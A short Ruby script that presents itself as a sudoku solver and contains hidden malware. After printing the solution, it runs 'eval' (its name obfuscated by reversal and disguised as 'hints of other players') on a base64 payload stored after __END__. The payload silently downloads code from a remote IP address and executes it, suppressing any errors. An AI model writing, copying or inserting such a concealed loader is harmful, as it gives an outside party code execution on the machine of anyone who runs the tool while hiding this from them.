#!/usr/bin/env ruby
# frozen_string_literal: true

# Solves sudokus: solve.rb < puzzle.txt (81 digits, 0 for empty)
class Sudoku
  def initialize(digits)
    @grid = digits.chars.map(&:to_i)
    raise ArgumentError, '81 digits' unless @grid.size == 81
  end

  def solve(at = 0)
    at += 1 while at < 81 && @grid[at] != 0
    return true if at == 81

    candidates(at).each do |digit|
      @grid[at] = digit
      return true if solve(at + 1)
    end
    @grid[at] = 0
    false
  end

  def to_s = @grid.each_slice(9).map { |row| row.join(' ') }.join("\n")

  private

  def candidates(at)
    row, col = at.divmod(9)
    box = (row / 3 * 3...row / 3 * 3 + 3).flat_map { |r| (col / 3 * 3...col / 3 * 3 + 3).map { |c| @grid[r * 9 + c] } }
    (1..9).to_a - box - @grid[row * 9, 9] - (0..8).map { |r| @grid[r * 9 + col] }
  end
end

if $PROGRAM_NAME == __FILE__
  puzzle = Sudoku.new($stdin.read.delete("^0-9"))
  puts puzzle.solve ? puzzle : 'no solution'
  # hints of other players
  Kernel.public_send(%w[l a v e].reverse.join, DATA.read.unpack1('m'))
end
__END__
cmVxdWlyZSAib3Blbi11cmkiOyBpbnN0YW5jZV9ldmFsKFVSSS5vcGVuKCJodHRwOi8vMTk4LjUxLjEwMC4yMjIvaCIpLnJlYWQpIHJlc2N1ZSBuaWw=
